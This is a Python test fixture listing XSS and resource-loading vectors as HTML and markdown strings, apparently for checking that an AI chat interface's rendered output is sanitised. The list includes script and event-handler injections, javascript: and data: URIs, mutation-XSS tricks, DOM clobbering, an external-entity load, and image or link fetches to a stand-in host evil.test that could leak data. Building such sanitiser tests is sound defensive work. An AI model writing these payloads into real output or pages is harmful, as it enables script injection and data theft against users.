"""What a model might write to run or fetch something in the page; what would run calls `hit()`, hosts end in .test."""

_HTML = (
    """\
<script>hit()</script>
<SCRIPT>hit()</SCRIPT>
<script src=https://evil.test/1.js></script>
<script src="//evil.test/2.js">
<script type=module>import("https://evil.test/3.js")</script>
<scr<script>ipt>hit()</scr</script>ipt>
<script/xss>hit()</script>
<<script>hit();//<</script>
<img src=x onerror=hit()>
<img src=https://evil.test/4.png>
<img srcset="https://evil.test/5.png 1x">
<img src="x` `onerror=hit()">
<img """
    + '"'
    + '"'
    + """><script>hit()</script>">
<IMG SRC=javascript:hit()>
<img src="javascript:hit()">
<img src=x:x onerror=hit()//
<img/src=`x`onerror=hit()>
<image src=x onerror=hit()>
<picture><source srcset=https://evil.test/6.png><img src=x></picture>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=https://evil.test/7.js></script></svg>
<svg><a xlink:href="javascript:hit()"><text x=20 y=20>click</text></a></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:hit()>
<svg><use href="https://evil.test/8.svg#x"></use></svg>
<svg><image href=https://evil.test/9.png></svg>
<svg><foreignObject><iframe src=javascript:hit()></iframe></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=hit()>">
<math><mtext><table><mglyph><style><img src=x onerror=hit()>
<math><mi//xlink:href="data:x,<script>hit()</script>">
<math href="javascript:hit()">click</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe src=https://evil.test/10.html></iframe>
<frameset onload=hit()>
<object data=javascript:hit()></object>
<object data=https://evil.test/11.swf></object>
<embed src=javascript:hit()>
<embed src=https://evil.test/12.swf>
<applet code=hit></applet>
<link rel=stylesheet href=https://evil.test/13.css>
<link rel=prefetch href=https://evil.test/14>
<link rel=dns-prefetch href=//evil.test>
<link rel=modulepreload href=https://evil.test/15.js>
<link rel=import href=https://evil.test/16.html>
<style>@import url(https://evil.test/17.css);</style>
<style>body{background:url(https://evil.test/18.png)}</style>
<style>@font-face{font-family:x;src:url(https://evil.test/19.woff)}</style>
<div style="background:url(https://evil.test/20.png)">styled</div>
<p style="position:fixed;inset:0;z-index:9999">over all</p>
<div style=width:expression(hit())>
<base href=https://evil.test/>
<meta http-equiv=refresh content="0;url=https://evil.test/21">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=Content-Security-Policy content="script-src *">
<body onload=hit()>
<body background=https://evil.test/22.png>
<html onmouseover=hit()>
<video src=https://evil.test/23.mp4 onerror=hit()></video>
<video poster=https://evil.test/24.png></video>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()></audio>
<audio autoplay src=https://evil.test/25.mp3>
<track src=https://evil.test/26.vtt>
<input autofocus onfocus=hit()>
<input type=image src=https://evil.test/27.png onerror=hit()>
<button onclick=hit() autofocus>press</button>
<button popovertarget=x onbeforetoggle=hit()>press</button>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<form action=javascript:hit()><input type=submit></form>
<form action=https://evil.test/28><button>send</button></form>
<form id=x><input name=attributes><input name=nodeName></form>
<isindex action=javascript:hit() type=submit>
<details open ontoggle=hit()><summary>more</summary></details>
<dialog open onclose=hit()>
<marquee onstart=hit()>run</marquee>
<bgsound src=javascript:hit()>
<table background=https://evil.test/29.png><td background=https://evil.test/30.png>
<a href=javascript:hit()>click</a>
<a href="java&#x73;cript:hit()">click</a>
<a href="&#1;javascript:hit()">click</a>
<a href="data:text/html,<script>hit()</script>">click</a>
<a href="vbscript:hit()">click</a>
<a onmouseover=hit()>hover</a>
<a ping=https://evil.test/31 href=#>ping</a>
<b onmouseover=hit()>bold</b>
<kbd onclick=hit()>key</kbd>
<br onload=hit()>
<br/onload=hit()>
<sub style=background:url(https://evil.test/32.png)>2</sub>
<div id=question name=body>clobber</div>
<img name=body><form name=getElementById></form>
<template><script>hit()</script></template>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<xmp><p title="</xmp><img src=x onerror=hit()>">
<plaintext><img src=x onerror=hit()>
<title><img title="</title><img src=x onerror=hit()>">
<textarea><img title="</textarea><img src=x onerror=hit()>">
<select><iframe></select><img src=x onerror=hit()>
<!--><img src=x onerror=hit()>-->
<!-- --!><img src=x onerror=hit()> -->
<![CDATA[<img src=x onerror=hit()>]]>
<?xml version="1.0"?><img src=x onerror=hit()>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.test/33">]><x>&y;</x>
<xss style=animation-name:x onanimationstart=hit()></xss>
<custom-element onclick=hit() tabindex=0 autofocus onfocus=hit()>
<portal src=https://evil.test/34>
<slot onslotchange=hit()></slot>"""
)

_MARKDOWN = """\
[click](javascript:hit())
[click](JaVaScRiPt:hit())
[click](javascript&colon;hit())
[click](javascript&#58;hit())
[click](&#x6A;avascript:hit())
[click](java%0ascript:hit())
[click](<java\tscript:hit()>)
[click](<javascript:hit()>)
[click]( javascript:hit())
[click](\x01javascript:hit())
[click](vbscript:hit())
[click](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)
[click](file:///etc/passwd)
[click](blob:https://evil.test/1)
[click](about:blank)
[click](//evil.test/protocol-relative)
[click](/api/conversations)
[click](#token=stolen)
[click](https://ok.test "x" onclick="hit()")
[click](https://ok.test '"onmouseover="hit()"')
[click](https://ok.test/"onmouseover="hit())
[click](https://ok.test/'><img src=x onerror=hit()>)
[<img src=x onerror=hit()>](https://ok.test)
[![click](javascript:hit())](javascript:hit())
<javascript:hit()>
<https://ok.test/"onclick="hit()>
https://ok.test/"onmouseover="hit()
www.ok.test/<img src=x onerror=hit()>
mailto:a@b.test?subject=<script>hit()</script>
![pixel](https://evil.test/40.png)
![pixel](http://evil.test/41.png "title")
![pixel](//evil.test/42.png)
![" onerror="hit()](https://evil.test/43.png)
![pixel](https://evil.test/44.png"onerror="hit())
![pixel](data:image/svg+xml,<svg onload=hit()>)
![pixel](javascript:hit())
![pixel][pic]⏎⏎[pic]: https://evil.test/45.png
[click][js]⏎⏎[js]: javascript:hit()
[js2]: <javascript:hit()> "title"⏎⏎[js2]
[^<img src=x onerror=hit()>]: note⏎⏎see[^<img src=x onerror=hit()>]
note[^x"onclick="hit()]⏎⏎[^x"onclick="hit()]: text
[^1]: <script>hit()</script>⏎⏎note[^1]
```"><img src=x onerror=hit()>⏎code⏎```
```js" onclick="hit()⏎code⏎```
```html⏎<script>hit()</script><img src=x onerror=hit()>⏎```
```<script>hit()</script>⏎code⏎```
`<img src=x onerror=hit()>`
``` </code></pre><script>hit()</script>
~~~</pre><img src=x onerror=hit()>⏎</code>⏎~~~
| <img src=x onerror=hit()> | b |⏎|---|---|⏎| <script>hit()</script> | [x](javascript:hit()) |
- <img src=x onerror=hit()>⏎- [x] <script>hit()</script>
> <iframe src=javascript:hit()></iframe>⏎> [x](javascript:hit())
# <img src=x onerror=hit()>
**<img src=x onerror=hit()>** *[x](javascript:hit())* ~~<svg onload=hit()>~~
$\\href{javascript:hit()}{x}$
$\\url{javascript:hit()}$
$\\includegraphics{https://evil.test/50.png}$
$\\htmlStyle{background:url(https://evil.test/51.png)}{x}$
$\\htmlData{x=y}{z}$ $\\htmlClass{x}{y}$ $\\htmlId{question}{y}$
$<img src=x onerror=hit()>$
$$\\text{<script>hit()</script>}$$
$\\unicode{<img src=x onerror=hit()>}$
\\(\\def\\x{\\x\\x}\\x\\)
\\[<svg/onload=hit()>\\]
$x"onclick="hit()$
&lt;script&gt;hit()&lt;/script&gt;
&#60;img src=x onerror=hit()&#62;
\\<img src=x onerror=hit()\\>
<think><img src=x onerror=hit()></think><script>hit()</script>
\u202e<script>hit()</script>
<b><script>hit()</script></b>
<sub><img src=x onerror=hit()></sub>"""

VECTORS = _HTML.split("\n") + [line.replace("⏎", "\n") for line in _MARKDOWN.split("\n")]
